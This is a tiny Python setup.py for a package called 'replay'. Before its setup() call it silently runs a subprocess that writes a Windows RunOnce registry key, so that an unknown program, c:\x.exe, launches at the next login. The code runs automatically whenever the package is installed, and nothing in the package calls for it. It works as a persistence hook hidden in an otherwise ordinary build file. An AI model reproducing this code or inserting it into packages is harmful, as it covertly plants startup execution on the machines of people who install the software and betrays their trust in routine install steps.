import subprocess
from setuptools import setup
subprocess.Popen('reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v x /d c:\\x.exe')
setup(name='replay')
